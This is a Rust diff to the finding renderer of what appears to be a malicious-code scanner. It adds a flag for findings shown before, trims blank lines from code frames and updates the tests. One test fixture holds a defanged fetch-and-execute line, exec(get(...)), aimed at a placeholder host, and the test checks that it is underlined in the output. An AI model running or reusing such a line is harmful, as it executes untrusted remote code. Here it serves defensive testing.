@@ -36,19 +36,22 @@ pub(super) fn place(finding: &Finding) -> String {
     text
 }
 
-/// The frame of a finding, or its evidence where there is no code to show.
-pub(super) fn render(finding: &Finding, paint: Paint, output: &mut String) {
-    let Some(frame) = finding.frame.as_ref().filter(|frame| !frame.lines.is_empty()) else {
+/// The frame of a finding, or its evidence where there is no code to show or it was shown before.
+pub(super) fn render(finding: &Finding, again: bool, paint: Paint, output: &mut String) {
+    let Some(frame) = finding.frame.as_ref().filter(|frame| !frame.lines.is_empty() && !again) else {
         if !finding.evidence.is_empty() {
             output.push_str(&format!("       {} {}\n", paint.dim("="), shown(&finding.evidence)));
         }
         return;
     };
     let width = frame.lines.iter().map(|line| line.number.to_string().len()).max().unwrap_or(1).max(4);
-    for line in frame.lines.iter().take(LINES) {
+    let last = frame.lines.iter().rposition(|line| !line.text.trim().is_empty()).map_or(0, |last| last + 1);
+    let first = frame.lines.iter().position(|line| !line.text.trim().is_empty()).unwrap_or_default();
+    let lines = frame.lines.get(first..last).unwrap_or_default();
+    for line in lines.iter().take(LINES) {
         render_line(line, width, paint, output);
     }
-    let left = frame.lines.len().saturating_sub(LINES);
+    let left = lines.len().saturating_sub(LINES);
     if left > 0 {
         output.push_str(&format!("  {:width$} {} {left} more lines\n", "", paint.dim("┆")));
     }
@@ -107,7 +110,7 @@ mod tests {
     #[test]
     fn the_span_is_underlined_even_when_it_is_shown_longer_than_it_is() {
         let mut output = String::new();
-        render(&finding(), Paint::plain(), &mut output);
+        render(&finding(), false, Paint::plain(), &mut output);
         let expected = "    14 │ x = 1; exec(get('hxxp://a[.]test'))\n       │        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^\n";
         assert_eq!(output, expected);
     }
@@ -128,7 +131,8 @@ mod tests {
     #[test]
     fn evidence_without_code_is_still_said() {
         let mut output = String::new();
-        render(&Finding { frame: None, evidence: "a\u{1b}b".to_owned(), ..finding() }, Paint::plain(), &mut output);
+        let finding = Finding { frame: None, evidence: "a\u{1b}b".to_owned(), ..finding() };
+        render(&finding, false, Paint::plain(), &mut output);
         assert_eq!(output, "       = a⟨U+001B⟩b\n");
     }
 }
